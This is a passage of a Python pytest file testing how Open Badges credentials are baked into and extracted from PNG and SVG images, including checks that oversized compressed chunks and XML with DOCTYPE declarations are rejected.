        (b"<!-- c --><s:svg xmlns:s='http://www.w3.org/2000/svg'/>", False, True),
        (b"<html/>", False, False),
        (b"GIF89a", False, False),
        (b"svg", False, False),
        (b"", False, False),
    ],
    ids=["png", "svg", "bom-svg", "prefixed-svg", "html", "gif", "bare-word", "empty"],
)
def test_sniffing(data: bytes, png: bool, svg: bool) -> None:
    """is_png and is_svg recognise their formats from the first bytes."""
    assert is_png(data) is png
    assert is_svg(data) is svg


def test_extract_from_png_refuses_an_svg() -> None:
    """extract_from_png on non-PNG bytes raises InvalidImage."""
    with pytest.raises(InvalidImage, match="signature is missing"):
        extract_from_png(SMALL_SVG)


@pytest.mark.parametrize(
    "data",
    [b"GIF89a\x01\x00\x01\x00", b"%PDF-1.7", b"{}", b"", b"<html></html>"],
    ids=["gif", "pdf", "json", "empty", "html"],
)
def test_extract_credential_refuses_other_formats(data: bytes) -> None:
    """Bytes that are neither PNG nor SVG raise InvalidImage."""
    with pytest.raises(InvalidImage, match="neither a PNG nor an SVG") as err:
        extract_credential(data)
    assert err.value.code == "invalid-image"


# --------------------------------------------------------------------------------------------
# Properties
# --------------------------------------------------------------------------------------------


@given(png=png_images(), credential=credential_texts())
def test_property_png_round_trip(png: bytes, credential: str) -> None:
    """For any PNG and any text, bake then extract returns the text."""
    baked = bake_png(png, credential)
    assert extract_from_png(baked) == credential
    assert extract_from_png(bake_png(baked, credential)) == credential


@given(svg=svg_documents(), credential=xml_credential_texts())
def test_property_svg_round_trip(svg: bytes, credential: str) -> None:
    """For any SVG and any text XML can carry, bake then extract returns the text."""
    baked = bake_svg(svg, credential)
    assert extract_from_svg(baked) == credential
    rebaked = bake_svg(baked, credential)
    assert rebaked == baked
    assert len(credential_elements(rebaked)) == 1


@given(credential=json_credentials() | compact_jws())
def test_property_credentials_round_trip_in_both_formats(credential: str) -> None:
    """For any JSON or JWS credential, both formats give it back and agree."""
    png = bake_png(default_badge_png("배지", size=16), credential)
    svg = bake_svg(SMALL_SVG, credential)
    assert extract_credential(png) == extract_credential(svg) == credential


# --------------------------------------------------------------------------------------------
# Open Badges 2.0 baked images (read only)
# --------------------------------------------------------------------------------------------


def test_ob2_png_itxt_and_text_chunks(plain_png: bytes) -> None:
    """OB 2.0: iTXt ``openbadges`` (compressed or not) is read; tEXt as a fallback."""
    chunks = png_chunks(plain_png)
    url = "https://example.org/beths-robotics-badge.json"
    itxt = (b"iTXt", b"openbadges\x00\x00\x00\x00\x00" + url.encode())
    packed = (b"iTXt", b"openbadges\x00\x01\x00\x00\x00" + zlib.compress(b'{"a": 1}'))
    text = (b"tEXt", b"openbadges\x00" + url.encode())
    assert extract_ob2_assertion(build_png([*chunks[:-1], itxt, chunks[-1]])) == url
    assert extract_ob2_assertion(build_png([*chunks[:-1], packed, chunks[-1]])) == '{"a": 1}'
    assert extract_ob2_assertion(build_png([*chunks[:-1], text, chunks[-1]])) == url
    # An OB 3.0 credential is not an OB 2.0 assertion, and the other way round.
    with pytest.raises(NoCredentialInImage, match="no openbadges chunk"):
        extract_ob2_assertion(bake_png(plain_png, JWS_CREDENTIAL))
    with pytest.raises(NoCredentialInImage):
        extract_credential(build_png([*chunks[:-1], itxt, chunks[-1]]))


def test_ob2_png_keeps_the_png_defences(plain_png: bytes) -> None:
    chunks = png_chunks(plain_png)
    bomb = (
        b"iTXt",
        b"openbadges\x00\x01\x00\x00\x00" + zlib.compress(b" " * (MAX_CREDENTIAL_BYTES + 1)),
    )
    with pytest.raises(ImageTooLarge):
        extract_ob2_assertion(build_png([*chunks[:-1], bomb, chunks[-1]]))
    with pytest.raises(InvalidImage):
        extract_ob2_assertion(plain_png[:-5])


def test_ob2_svg_assertion_element() -> None:
    """OB 2.0: ``<openbadges:assertion>`` in ``http://openbadges.org``; verify attribute or body."""
    head = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
    by_url = head + b'<openbadges:assertion verify="https://example.org/a.json"/></svg>'
    by_body = head + b'<openbadges:assertion><![CDATA[ {"id": "x"} ]]></openbadges:assertion></svg>'
    assert extract_ob2_assertion(by_url) == "https://example.org/a.json"
    assert extract_ob2_assertion(by_body) == '{"id": "x"}'
    # The OB 3.0 element, or the right name in another namespace, is not an OB 2.0 assertion.
    other_ns = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="urn:x"><o:assertion verify="u"/></svg>'
    )
    for svg in (other_ns, bake_svg(default_badge_svg("x"), JWS_CREDENTIAL)):
        with pytest.raises(NoCredentialInImage):
            extract_ob2_assertion(svg)
    unsafe = b'<!DOCTYPE svg [<!ENTITY a "b">]>' + by_url
    with pytest.raises(UnsafeXml):
        extract_ob2_assertion(unsafe)
    with pytest.raises(InvalidImage):
        extract_ob2_assertion(b"GIF89a")
